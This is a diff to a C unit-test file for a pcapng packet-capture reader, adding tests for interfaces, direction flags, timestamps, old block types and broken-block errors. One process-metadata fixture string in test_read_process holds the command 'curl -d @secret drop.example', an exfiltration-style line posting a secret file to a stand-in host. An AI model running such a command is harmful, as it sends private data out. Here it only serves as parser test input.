@@ -16,7 +16,7 @@
 #define PACKET "{\"type\":\"packet\",\"id\":\"7\"}"
 
 static struct {
-	uint8_t data[1 << 16];
+	uint8_t data[1 << 17];
 	size_t len;
 	bool swap; /* the other byte order */
 	int fd;
@@ -117,22 +117,35 @@ static void interface(uint16_t link)
 	end_block(at);
 }
 
-static void packet(const void *data, uint32_t len, const char *comment)
+struct beside { /* what stands beside a packet */
+	uint32_t interface, flags;
+	const char *comment;
+};
+
+static void packet_with(const void *data, uint32_t len, struct beside o)
 {
 	size_t at = block(PCAPNG_EPB);
 
-	put32(0);
+	put32(o.interface);
 	put32(0x0006158f); /* microseconds since 1970, high half first */
 	put32(0x8d4f0000);
 	put32(len);
 	put32(len + 10);
 	put(data, len);
 	pad();
-	if (comment) {
-		option(PCAPNG_OPT_COMMENT, comment);
-		put32(0);
+	if (o.comment)
+		option(PCAPNG_OPT_COMMENT, o.comment);
+	if (o.flags) {
+		put16(PCAPNG_EPB_FLAGS);
+		put16(4);
+		put32(o.flags);
 	}
 	end_block(at);
+}
+
+static void packet(const void *data, uint32_t len, const char *comment)
+{
+	packet_with(data, len, (struct beside){ .comment = comment });
 }
 
 static void journal(const char *text)
@@ -500,8 +513,7 @@ static void test_read_unknown_link(void **state unused_arg)
 	assert_non_null(strstr(d.text, "IEEE802_11 (802.11)"));
 }
 
-/* Another link type behind the first is what libpcap can't read. */
-static void test_read_two_links(void **state unused_arg)
+static void test_read_many_links(void **state unused_arg)
 {
 	struct foreign_report r;
 	struct got g;
@@ -509,12 +521,220 @@ static void test_read_two_links(void **state unused_arg)
 
 	begin(false);
 	others();
-	interface(113);
-	packet("abc", 3, NULL);
+	interface(101);
+	interface(105);
+	packet_with("\x45z", 2, (struct beside){ .interface = 1 });
+	packet_with("abc", 3, (struct beside){ .interface = 2 });
+	packet_with("abc", 3, (struct beside){ .interface = 2 });
+	packet_with("\x60z", 2, (struct beside){ .interface = 1 });
+	assert_int_equal(read_it(&g, &r, &d), 0);
+	assert_int_equal(g.n, 3);
+	assert_int_equal(g.last.id, 3);
+	assert_int_equal(g.last.packet.eth_proto, ETH_P_IPV6);
+	assert_false(r.cut);
+	assert_string_equal(r.link, "EN10MB (Ethernet), RAW (Raw IP)");
+	assert_int_equal(r.left_out, 2);
+	assert_string_equal(r.left_out_link, "IEEE802_11 (802.11)");
+}
+
+/* ---- what pcapng has beside a packet ---- */
+
+static void test_read_direction(void **state unused_arg)
+{
+	static const struct {
+		uint32_t flags;
+		enum direction want;
+	} cases[] = {
+		{ PCAPNG_INBOUND, DIRECTION_IN },
+		{ PCAPNG_OUTBOUND, DIRECTION_OUT },
+		{ 0x10 | PCAPNG_OUTBOUND, DIRECTION_OUT },
+		{ 0x10, DIRECTION_UNKNOWN },
+		{ 3, DIRECTION_UNKNOWN },
+	};
+
+	for (size_t i = 0; i < 2 * ARRAY_SIZE(cases); i++) {
+		struct foreign_report r;
+		struct got g;
+		struct diag d;
+
+		begin(i % 2);
+		others();
+		packet_with("abc", 3, (struct beside){ .flags = cases[i / 2].flags });
+		assert_int_equal(read_it(&g, &r, &d), 0);
+		assert_int_equal(g.direction, cases[i / 2].want);
+		assert_int_equal(r.has_direction, cases[i / 2].want != DIRECTION_UNKNOWN);
+	}
+}
+
+static void test_read_process(void **state unused_arg)
+{
+	static const struct {
+		const char *comment, *name;
+		uint32_t pid;
+	} cases[] = {
+		{ "PID: 4242\nCmd: /usr/bin/curl\nArgs: curl -d @secret drop.example", "curl",
+		  4242 },
+		{ "PID: 7\nCmd: sh", "sh", 7 },
+		{ "PID: 7", "", 7 },
+		{ "PID: 7\nCmd: ", "", 7 },
+		{ "PID: 7\nCmd: /a/", "", 7 },
+		{ "PID: 7\nCmd: /opt/a-name-of-24-characters", "a-name-of-24-cha", 7 },
+		{ "ParentPID: 9\nParentCmd: /bin/bash", "", 0 },
+		{ "Cmd: curl", "", 0 },
+		{ "PID: 99999999999999999999\nCmd: curl", "", 0 },
+		{ "PID: 4294967296\nCmd: curl", "", 0 },
+		{ "PID: -1\nCmd: curl", "", 0 },
+		{ "PID: \nCmd: curl", "", 0 },
+		{ "see PID: 7\nCmd: curl", "", 0 },
+	};
+
+	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
+		struct foreign_report r;
+		struct got g;
+		struct diag d;
+
+		begin(false);
+		others();
+		packet("abc", 3, cases[i].comment);
+		assert_int_equal(read_it(&g, &r, &d), 0);
+		assert_int_equal(g.last.packet.owner.pid, cases[i].pid);
+		assert_string_equal(g.last.packet.owner.name, cases[i].name);
+	}
+}
+
+static void test_read_times(void **state unused_arg)
+{
+	static const uint64_t units = 0x0006158f8d4f0000ull; /* as packet() has it */
+	static const struct {
+		int resolution; /* -1: not said */
+		int64_t offset_s;
+		uint64_t want;
+	} cases[] = {
+		{ -1, 0, units * 1000 },
+		{ 9, 0, units },
+		{ 12, 0, units / 1000 },
+		{ 3, 0, UINT64_MAX }, /* beyond what there is */
+		{ 0, 0, UINT64_MAX },
+		{ 127, 0, 0 },
+		{ 0x80 | 20, 0, 1633220820937500000u },
+		{ 0x80 | 63, 0, 185675 },
+		{ 0x80 | 64, 0, 0 },
+		{ 6, 5, units * 1000 + 5000000000u },
+		{ 6, -5, units * 1000 - 5000000000u },
+		{ 6, INT64_MIN, 0 },
+		{ 6, INT64_MAX, UINT64_MAX },
+	};
+
+	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
+		struct foreign_report r;
+		struct got g;
+		struct diag d;
+		size_t at;
+
+		begin(false);
+		section("x");
+		at = block(PCAPNG_IDB);
+		put16(DLT_ETHERNET);
+		put16(0);
+		put32(0);
+		if (cases[i].resolution >= 0) {
+			put16(PCAPNG_IF_TSRESOL);
+			put16(1);
+			put32((uint32_t)cases[i].resolution);
+		}
+		put16(14); /* if_tsoffset */
+		put16(8);
+		put(&cases[i].offset_s, 8);
+		end_block(at);
+		packet("abc", 3, NULL);
+		assert_int_equal(read_it(&g, &r, &d), 0);
+		if (g.last.time_ns != cases[i].want)
+			fail_msg("resolution %d, offset %lld: %llu", cases[i].resolution,
+				 (long long)cases[i].offset_s, (unsigned long long)g.last.time_ns);
+	}
+}
+
+/* The two other kinds of packets: simple, and obsolete. */
+static void test_read_old_packets(void **state unused_arg)
+{
+	struct foreign_report r;
+	struct got g;
+	struct diag d;
+	size_t at;
+
+	begin(false);
+	others();
+	at = block(3);
+	put32(20); /* before it was cut */
+	put("wxyz", 4);
+	end_block(at);
+	assert_int_equal(read_it(&g, &r, &d), 0);
+	assert_int_equal(g.n, 2);
+	assert_int_equal(g.last.packet.len, 20);
+	assert_int_equal(g.last.packet.data_len, 4);
+	assert_int_equal(g.last.time_ns, 0x0006158f8d4f0000ull * 1000); /* the one before's */
+	at = block(2);
+	put16(0);
+	put16(77); /* drops */
+	put32(0);
+	put32(5);
+	put32(2);
+	put32(9);
+	put("pq\0\0", 4);
+	end_block(at);
+	assert_int_equal(read_it(&g, &r, &d), 0);
+	assert_int_equal(g.n, 3);
+	assert_int_equal(g.last.time_ns, 5000);
+	assert_int_equal(g.last.packet.len, 9);
+	assert_memory_equal(g.data, "pq", 2);
+}
+
+static void says(const char *what)
+{
+	struct foreign_report r;
+	struct got g;
+	struct diag d;
+
 	assert_int_equal(read_it(&g, &r, &d), 0);
 	assert_int_equal(g.n, 1);
 	assert_true(r.cut);
-	assert_non_null(strstr(r.text, "type"));
+	if (!strstr(r.text, what))
+		fail_msg("'%s' lacks '%s'", r.text, what);
+}
+
+/* What came before is handed over, and what is wrong is said, with its place. */
+static void test_read_broken_blocks(void **state unused_arg)
+{
+	char place[32];
+	size_t at;
+
+	begin(false);
+	others();
+	at = file.len;
+	(void)str_format(place, sizeof(place), "at byte %zu", at);
+	packet_with("abc", 3, (struct beside){ .interface = 1 });
+	says("contradicts itself at byte");
+	says(place);
+	for (size_t left = file.len - at - 1; left > 0; left--) {
+		file.len = at + left;
+		says("ends within the block at byte");
+		says(place);
+	}
+	file.len = at;
+	packet("abc", 3, NULL);
+	file.data[at + 20] = 200; /* more bytes than there are */
+	says("contradicts itself");
+	file.data[at + 4] = 13; /* no length that a block has */
+	says("no block starts at byte");
+	file.len = at;
+	at = block(PCAPNG_IDB);
+	put32(1);
+	end_block(at);
+	says("contradicts itself");
+	file.len = at;
+	for (int i = 0; i < 4096; i++)
+		interface(1);
+	says("one interface too many");
 }
 
 static void test_read_ends(void **state unused_arg)
@@ -545,7 +765,12 @@ int main(void)
 		cmocka_unit_test(test_read_cut),
 		cmocka_unit_test(test_read_links),
 		cmocka_unit_test(test_read_unknown_link),
-		cmocka_unit_test(test_read_two_links),
+		cmocka_unit_test(test_read_many_links),
+		cmocka_unit_test(test_read_direction),
+		cmocka_unit_test(test_read_process),
+		cmocka_unit_test(test_read_times),
+		cmocka_unit_test(test_read_old_packets),
+		cmocka_unit_test(test_read_broken_blocks),
 		cmocka_unit_test(test_read_ends),
 	};
 
